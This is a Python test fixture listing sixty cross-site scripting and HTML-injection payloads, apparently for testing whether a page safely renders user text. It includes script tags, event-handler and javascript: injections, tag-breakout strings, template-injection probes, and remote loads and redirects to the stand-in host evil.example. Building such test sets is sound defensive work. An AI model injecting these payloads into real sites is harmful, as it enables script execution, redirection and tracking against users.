"""Sixty texts that would run or load something on a page that takes texts for HTML."""

from __future__ import annotations

_RUN = ["top.hacked=1", "window.hacked=1", "alert(1)"]
_ELEMENTS = [
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    "<details open ontoggle={}>x</details>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    '<a href="javascript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    "</div></article><script>{}</script>",
    '"><script>{}</script>',
    "'-->]]></textarea></title></style><script>{}</script>",
    '<object data="javascript:{}"></object>',
]
_OTHERS = [
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1 \"t\")",
    "[x](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
    "![x](http://evil.example/a.png)",
    "![x](javascript:window.hacked=1)",
    "<http://evil.example/onclick=hacked>",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<style>@import 'http://evil.example/a.css'; body{display:none}</style>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
]  # fmt: skip

PAYLOADS = [element.format(run) for element in _ELEMENTS for run in _RUN] + _OTHERS
assert len(PAYLOADS) == 60
